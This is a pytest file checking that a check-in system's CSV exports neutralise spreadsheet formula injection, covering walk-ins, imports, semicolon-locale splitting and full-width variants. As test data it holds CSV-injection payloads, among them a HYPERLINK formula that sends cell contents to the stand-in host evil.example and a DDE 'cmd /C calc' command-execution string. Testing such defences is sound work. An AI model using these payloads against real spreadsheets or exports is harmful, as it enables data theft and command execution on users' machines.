"""Issue 13: spreadsheet formulas never leave the hub live. Text typed by
attendees and staff (walk-ins, imports) comes out of every CSV export with a
leading single quote when a spreadsheet would run it (OWASP CSV injection),
numbers stay numbers, and the attendee export keeps its BOM."""
from __future__ import annotations

import csv
import io

import pytest

from checkin.classlist import problems_csv
from checkin.export import export_attendees_csv
from checkin.importer import import_csv
from kiosk.csvsafe import safe_cell, write_csv
from tests.support.http import post_json

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1)",
    "+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d2",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_quoted(payload):
    written = safe_cell(payload)
    assert written.startswith("'") and written.replace("'", "") == payload.replace("'", "")
    assert excel_pieces_are_safe(written)


# Issue 24: Excel with ";" as its list separator (Vietnamese locales) splits a
# comma-CSV cell on ";" (and on tabs), and runs a piece that starts a formula.
INNER_PAYLOADS = ["THCS;=1+1;", "9A\t=1+1", 'Lớp;"=1+1"', "a; @SUM(1)", "a,+cmd", "x;-2+3", "x\r\n=1",
                  "x;\uff1d1+1", 'THCS;"  =HYPERLINK(""http://evil"")"']


def excel_pieces_are_safe(cell: str) -> bool:
    """Split like Excel with a ";" list separator would (also tab and comma),
    drop spaces and quotes, and check no piece starts with = + - @."""
    import re

    pieces = re.split(r"[;,\t\r\n]", cell)
    return not [p for p in pieces if p.strip().strip('"').strip()[:1] in ("=", "+", "-", "@", "\uff1d")]


@pytest.mark.parametrize("payload", INNER_PAYLOADS)
def test_formula_starts_after_separators_and_quotes_are_neutralised(payload):
    assert excel_pieces_are_safe(safe_cell(payload))


def test_the_semicolon_reading_of_a_written_csv_runs_nothing():
    out = io.StringIO()
    write_csv(out, ["Trường"], [[p] for p in INNER_PAYLOADS], bom=False)
    for line in out.getvalue().splitlines()[1:]:
        assert excel_pieces_are_safe(line), line


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "THCS Đống Đa", "6A", "a=b", "", "Lê-Thị", 3, -2, 1.5])
def test_plain_text_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value


def test_write_csv_starts_with_a_bom_by_default():
    out = io.StringIO()
    assert write_csv(out, ["name", "n"], [["@SUM(1)", -3]]) == 1
    text = out.getvalue()
    assert text.startswith("\ufeffname,n\r\n")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["name", "n"], ["'@SUM(1)", "-3"]]
    plain = io.StringIO()
    write_csv(plain, ["a"], [], bom=False)
    assert plain.getvalue() == "a\r\n"


def _exported_rows(db) -> list[dict]:
    text = export_attendees_csv(db, "test")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_walk_ins_with_formulas_export_quoted(device_client, db):
    desk = device_client("desk")
    made = []
    for n, payload in enumerate(PAYLOADS[:5]):
        response = post_json(desk, "/api/attendees", {
            "full_name": f"Nguyễn Văn {chr(65 + n)}", "age_band": "18+", "school": payload,
            "class_name": "+1", "consent_child": True, "consent_guardian": True,
            "consent_method": "guardian present"})
        assert response.status_code == 201, response.get_json()
        made.append(payload)
    rows = _exported_rows(db)
    schools = [row["school"] for row in rows]
    for payload in made:
        stored = db.execute("SELECT school FROM attendees WHERE school = ?", [payload]).fetchone()
        assert stored is not None  # stored as typed: only the export neutralises
        assert "'" + payload in schools
    assert all(row["class"] == "'+1" for row in rows)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", " ="))
               for row in rows for cell in row.values() if cell)


def test_imported_formulas_export_quoted(db):
    text = ("Họ và tên,Trường,Lớp,Tuổi\r\n"
            'Nguyễn Văn An,"=HYPERLINK(""http://evil.example"",""Click"")",+1,12\r\n'
            "Lê Thị Bình,@SUM(1),-2+3,13\r\n"
            "Trần Văn Cường,\uff1dcmd,\uff0b1,14\r\n")
    report = import_csv(db, text.encode("utf-8"), by="test")
    assert report.imported == 3, [p.reason for p in report.problems]
    rows = {row["full_name"]: row for row in _exported_rows(db)}
    assert rows["Nguyễn Văn An"]["school"] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"
    assert rows["Nguyễn Văn An"]["class"] == "'+1"
    assert rows["Lê Thị Bình"]["school"] == "'@SUM(1)" and rows["Lê Thị Bình"]["class"] == "'-2+3"
    assert rows["Trần Văn Cường"]["school"] == "'\uff1dcmd" and rows["Trần Văn Cường"]["class"] == "'\uff0b1"
    assert rows["Nguyễn Văn An"]["id"].isdigit()  # numbers stay numbers


def test_the_import_problems_csv_quotes_formulas_too(db):
    text = "Họ và tên,Trường,Lớp,Tuổi\r\n=cmd|' /C calc'!A0,@SUM(1),+1,not-an-age\r\n"
    report = import_csv(db, text.encode("utf-8"), by="test")
    out = problems_csv(report)
    assert out.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(out[1:])) for cell in row]
    assert cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
